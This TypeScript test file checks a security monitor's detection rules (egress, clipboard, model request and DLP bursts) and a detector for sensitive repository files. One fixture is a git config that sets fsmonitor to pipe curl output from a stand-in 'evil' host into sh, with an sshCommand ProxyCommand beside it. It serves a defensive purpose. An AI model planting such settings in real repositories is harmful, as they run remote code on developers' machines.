import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { DEFAULT_MONITORING } from '../policy/policy-schema.js';
import { RuleWindows, type RuleEvent } from './detection-rules.js';
import { judgeSensitive, riskyGitSettings } from './sensitive-files.js';

const ev = (kind: string, at: number, details: Record<string, unknown> = {}, sessionId: string | null = 's1'): RuleEvent => ({ kind, at, sessionId, details });

describe('detection rules', () => {
  test('a burst fires once at the threshold, stays quiet for the window, fires again after it', () => {
    const r = new RuleWindows({ ...DEFAULT_MONITORING, egressDenials: { count: 3, seconds: 10 } });
    const fired = [0, 1000, 2000, 3000, 4000, 15_000, 15_500, 16_000].map((t) => r.observe(ev('egress.deny', t, { channel: 'connect' })));
    assert.deepEqual(fired.map((a) => a?.rule ?? null), [null, null, 'egress_denial_burst', null, null, null, null, 'egress_denial_burst']);
    assert.equal(fired[2]?.severity, 'medium');
  });

  test('clipboard transfers through the gate, allowed or refused, count toward a clipboard burst; paste and file transfers do not', () => {
    const r = new RuleWindows({ ...DEFAULT_MONITORING, clipboardTransfers: { count: 3, seconds: 60 } });
    assert.equal(r.observe(ev('gate.allow', 1, { channel: 'clipboard' })), null);
    assert.equal(r.observe(ev('gate.redact', 2, { channel: 'paste' })), null);
    assert.equal(r.observe(ev('gate.deny', 3, { channel: 'file' })), null);
    assert.equal(r.observe(ev('gate.redact', 4, { channel: 'clipboard' })), null);
    const alert = r.observe(ev('gate.deny', 5, { channel: 'clipboard' }));
    assert.equal(alert?.rule, 'clipboard_burst');
    assert.match(alert?.message ?? '', /3 clipboard transfers within 60 s/);
  });

  test('events below the threshold spread over time never fire; other sessions count apart', () => {
    const r = new RuleWindows({ ...DEFAULT_MONITORING, massChange: { count: 3, seconds: 1 } });
    for (let t = 0; t < 10_000; t += 600) assert.equal(r.observe(ev('monitor.file_changed', t)), null);
    assert.equal(r.observe(ev('monitor.file_changed', 20_000, {}, 'a')), null);
    assert.equal(r.observe(ev('monitor.file_changed', 20_001, {}, 'b')), null);
    assert.equal(r.observe(ev('monitor.file_changed', 20_002, {}, 'a')), null);
  });

  test('model requests count allowed and refused model-channel records; DLP counts findings, not records; phantom misuse fires on the first', () => {
    const r = new RuleWindows({ ...DEFAULT_MONITORING, modelRequests: { count: 2, seconds: 60 }, dlpFindings: { count: 5, seconds: 60 } });
    assert.equal(r.observe(ev('egress.allow', 1, { channel: 'connect' })), null);
    assert.equal(r.observe(ev('egress.allow', 2, { channel: 'model' })), null);
    assert.equal(r.observe(ev('egress.deny', 3, { channel: 'model' }))?.rule, 'model_request_spike');
    assert.equal(r.observe(ev('dlp.findings', 4, { findings: [{ detector: 'aws', count: 4, action: 'redact' }] })), null);
    assert.equal(r.observe(ev('dlp.findings', 5, { findings: [{ detector: 'jwt', count: 1, action: 'redact' }] }))?.rule, 'dlp_finding_burst');
    assert.equal(r.observe(ev('key.phantom_rejected', 6))?.severity, 'high');
  });

  test('alerts off: nothing fires', () => {
    const r = new RuleWindows({ ...DEFAULT_MONITORING, alerts: false, phantomMisuse: { count: 1, seconds: 60 } });
    assert.equal(r.observe(ev('key.phantom_rejected', 1)), null);
  });
});

describe('sensitive files', () => {
  const none = (): string | null => null;
  test('hooks in nested repositories, not samples; builtin names anywhere; policy suffixes', () => {
    assert.match((judgeSensitive('sub/.git/hooks/post-checkout', [], none) as { reason: string }).reason, /git hook .* nested repository sub/);
    assert.equal(judgeSensitive('.git/hooks/pre-commit.sample', [], none).sensitive, false);
    assert.equal(judgeSensitive('a/b/.envrc', [], none).sensitive, true);
    assert.equal(judgeSensitive('x/.vscode/tasks.json', [], none).sensitive, true);
    assert.equal(judgeSensitive('tasks.json', [], none).sensitive, false);
    assert.equal(judgeSensitive('ci/deploy.sh', ['ci/deploy.sh'], none).sensitive, true);
    assert.equal(judgeSensitive('src/index.ts', [], none).sensitive, false);
  });

  test('a .git/config is sensitive only when it sets something that runs a program', () => {
    assert.equal(judgeSensitive('sub/.git/config', [], () => '[core]\n\trepositoryformatversion = 0\n\tbare = false\n').sensitive, false);
    assert.deepEqual(riskyGitSettings('[core]\n  fsmonitor = "curl evil|sh"\n[filter "lfs"]\n  smudge = x\n[diff]\n external = /tmp/d\n# core.hooksPath = commented\n'), ['core.fsmonitor', 'diff.external', 'filter.*.smudge']);
    assert.deepEqual(riskyGitSettings('[Core]\nHooksPath=/tmp/h\n[core] sshCommand = ssh -oProxyCommand=x'), ['core.hookspath', 'core.sshcommand']);
    assert.match((judgeSensitive('.git/config', [], () => '[core]\n\thooksPath = .githooks\n') as { reason: string }).reason, /core\.hookspath/);
  });
});
